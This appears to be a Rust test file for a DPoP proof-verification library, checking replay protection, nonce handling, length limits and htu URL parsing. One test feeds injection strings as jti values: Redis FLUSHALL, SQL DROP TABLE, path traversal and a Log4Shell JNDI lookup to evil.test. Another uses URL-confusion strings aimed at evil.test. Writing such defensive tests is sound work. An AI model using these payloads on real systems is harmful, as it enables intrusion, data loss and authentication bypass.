//! Proofs: replay, nonces and `htu`.

use std::{collections::BTreeSet, num::NonZeroUsize, sync::Arc};

use dpop_tower::{
    nonce::{NonceSecret, StatelessNonces},
    replay::MemoryReplayStore,
    test_util::TestClient,
};
use http::{HeaderValue, Method, header};

use crate::{
    rfc9449::case::Case,
    stores::CountingStore,
    support::{URL, Verdict, Way, invalid_proof, unavailable},
};

/// CVE-2026-41707 and others: a store that evicts entries when it is full lets old proofs pass again.
pub(super) async fn no_flood_of_proofs_makes_an_earlier_one_pass_again(way: Way) {
    const CAPACITY: usize = 20;
    let size = NonZeroUsize::new(CAPACITY).unwrap();
    for keys in [1, 3 * CAPACITY] {
        let store = MemoryReplayStore::with_capacity(size).capacity_per_key(size);
        let api = way.api_with(|tokens| tokens, |config| config.replay_store(store));
        let clients: Vec<_> = (0..keys)
            .map(|_| TestClient::new().clock(api.clock.clone()))
            .collect();
        let mut accepted = Vec::new();
        // From the first to the last second in which the first proofs are acceptable.
        for pause in [0, 35, 35] {
            api.advance(pause);
            for i in 0..3 * CAPACITY {
                let client = &clients[i % keys];
                let token = api.issuer.token().subject("bob").bound_to(client).mint();
                let proof = client.proof("GET", URL).access_token(&token).sign();
                match api.get(&token, &proof).await {
                    Verdict::Admitted => accepted.push((token, proof)),
                    rejected => assert_eq!(rejected, unavailable("store_full")),
                }
            }
            assert_eq!(accepted.len(), CAPACITY, "{keys} keys");
            for (token, proof) in &accepted {
                let verdict = api.get(token, proof).await;
                assert_eq!(verdict, invalid_proof("proof_replayed"), "{keys} keys");
            }
        }
    }
}

/// A store that counts from the arrival of a proof forgets it while its `iat` is still acceptable.
pub(super) async fn a_proof_from_the_future_is_known_to_its_last_second(way: Way) {
    let api = way.api();
    let token = api.token().mint();
    let proof = api.proof(&token).claim("iat", api.now() + 10).sign();
    assert_eq!(api.get(&token, &proof).await, Verdict::Admitted);
    for second in 1..=80 {
        api.advance(1);
        // New entries make a store clean up.
        let other = api.proof(&token).sign();
        assert_eq!(api.get(&token, &other).await, Verdict::Admitted);
        let verdict = api.get(&token, &proof).await;
        assert_eq!(verdict, invalid_proof("proof_replayed"), "{second} s");
    }
    api.advance(1);
    let verdict = api.get(&token, &proof).await;
    assert_eq!(verdict, invalid_proof("proof_too_old"));
}

/// A limit on one header must not be checked against another.
pub(super) async fn the_length_that_counts_is_that_of_the_proof(way: Way) {
    let api = way.api();
    let long = "z".repeat(9 * 1024);
    let token = api.token().claim("z", long.as_str()).mint();
    assert!(token.len() > 12 * 1024);
    let proof = api.proof(&token).claim("z", long.as_str()).sign();
    assert!(proof.len() > 12 * 1024);
    let mut request = api
        .client
        .request_with_proof(Method::GET, URL, &token, &proof);
    let cookie = HeaderValue::from_str(&"z".repeat(20 * 1024)).unwrap();
    request.headers_mut().insert(header::COOKIE, cookie);
    assert_eq!(
        api.send(request).await,
        Verdict::Admitted,
        "each is short enough"
    );

    let token = api.token().mint();
    let longer = "z".repeat(12 * 1024);
    let proof = api.proof(&token).claim("z", longer).sign();
    assert!(proof.len() > 16 * 1024);
    assert_eq!(
        api.get(&token, &proof).await,
        invalid_proof("proof_too_long"),
        "whatever the length of the token"
    );
}

/// A `jti` that becomes part of a command, a path or a pattern.
pub(super) async fn a_jti_is_a_name_and_nothing_else(way: Way) {
    let api = way.api();
    let token = api.token().mint();
    let jtis = [
        "a",
        "A",
        "a ",
        " a",
        "a\0",
        "a\0b",
        "a\n",
        "a\r\nDEL a\r\n",
        "a\r\nFLUSHALL\r\n",
        "*",
        "a*",
        "?",
        "[a-z]",
        ".*",
        "a:b",
        "a/b",
        "../a",
        "/dev/null",
        "' OR '1'='1",
        "a'; DROP TABLE jti; --",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "%61",
        "\\u0061",
        "\u{e4}",
        // The same letter in two normalisations.
        "a\u{308}",
        "1",
        "01",
        "1.0",
        "null",
    ];
    let proofs: Vec<_> = jtis
        .iter()
        .map(|jti| api.proof(&token).claim("jti", *jti).sign())
        .collect();
    for (jti, proof) in jtis.iter().zip(&proofs) {
        assert_eq!(api.get(&token, proof).await, Verdict::Admitted, "{jti:?}");
    }
    for (jti, proof) in jtis.iter().zip(&proofs) {
        let verdict = api.get(&token, proof).await;
        assert_eq!(verdict, invalid_proof("proof_replayed"), "{jti:?}");
    }
}

/// Nonces that are created and stored for every request fill the server's memory.
pub(super) async fn strangers_all_get_the_same_nonce(way: Way) {
    let store = Arc::new(CountingStore::default());
    let nonces = StatelessNonces::new(NonceSecret::new([1; 32]).unwrap());
    let api = way.api_with(
        |tokens| tokens,
        |config| {
            config
                .nonce_source(nonces)
                .require_nonces()
                .replay_store(Arc::clone(&store))
        },
    );
    let mut seen = BTreeSet::new();
    for i in 0..50 {
        let stranger = TestClient::new().clock(api.clock.clone());
        let token = format!("token-{i}");
        let mut request = stranger.get(URL, &token);
        if i % 2 == 0 {
            request.headers_mut().remove(header::AUTHORIZATION);
        }
        let response = api.response(request).await;
        assert_ne!(response.status(), 200);
        let nonce = response.headers()["dpop-nonce"].to_str().unwrap();
        seen.insert(nonce.to_owned());
    }
    assert_eq!(seen.len(), 1, "a nonce is a matter of time, not of state");
    assert_eq!((store.asked(), store.store.len()), (0, 0));
}

/// GHSA-fvhj-4qfh-q2hm: two parsers of a URL disagree on where it ends.
pub(super) async fn what_comes_before_a_fragment_is_the_resource(way: Way) {
    let case = Case::new(way);
    let (mismatch, invalid) = ("proof_htu_mismatch", "proof_htu_invalid");
    for (htu, reason) in [
        ("https://api.test/#/orders", mismatch),
        ("https://api.test#/orders", mismatch),
        ("https://api.test/other#/orders", mismatch),
        ("https://api.test/other#/../orders", mismatch),
        ("https://api.test/other?#/orders", mismatch),
        ("https://api.test/other?/../orders", mismatch),
        ("https://api.test/orders%23", mismatch),
        ("https://api.test/orders%23#", mismatch),
        ("https://api.test/orders%3F", mismatch),
        ("https://evil.test#@api.test/orders", mismatch),
        ("https://evil.test?@api.test/orders", mismatch),
        ("https://evil.test/#https://api.test/orders", mismatch),
        ("https://evil.test/@api.test/orders", mismatch),
        ("https://evil.test\\@api.test/orders", invalid),
        ("#https://api.test/orders", invalid),
        ("?https://api.test/orders", invalid),
    ] {
        let proof = case.proof().claim("htu", htu).sign();
        case.reject(htu, &proof, reason).await;
    }
    // The opposite case: a request for a resource with a longer name.
    for path in ["/orders%23", "/orders%23/x", "/orders%3F", "/orders%2523"] {
        let mut request = case.api.client.get(URL, &case.token);
        *request.uri_mut() = path.parse().unwrap();
        let verdict = case.api.send(request).await;
        assert_eq!(verdict, invalid_proof(mismatch), "{path}");
    }
    case.finish().await;
}

pub(super) async fn bytes_that_are_not_printable_are_no_part_of_htu(way: Way) {
    let case = Case::new(way);
    let characters = (0..=0x20).chain(0x7f..=0xff).map(char::from);
    for character in characters.chain(['\u{212a}', '\u{2024}', '\u{ff0f}', '\u{feff}']) {
        for htu in [
            format!("{URL}{character}"),
            format!("https://api.test/{character}orders"),
            format!("https://api{character}.test/orders"),
            format!("https://api.test{character}/orders"),
            format!("https{character}://api.test/orders"),
            format!("{character}{URL}"),
        ] {
            let proof = case.proof().claim("htu", htu.as_str()).sign();
            let what = htu.escape_default().to_string();
            case.reject(&what, &proof, "proof_htu_invalid").await;
        }
    }
    case.finish().await;
}
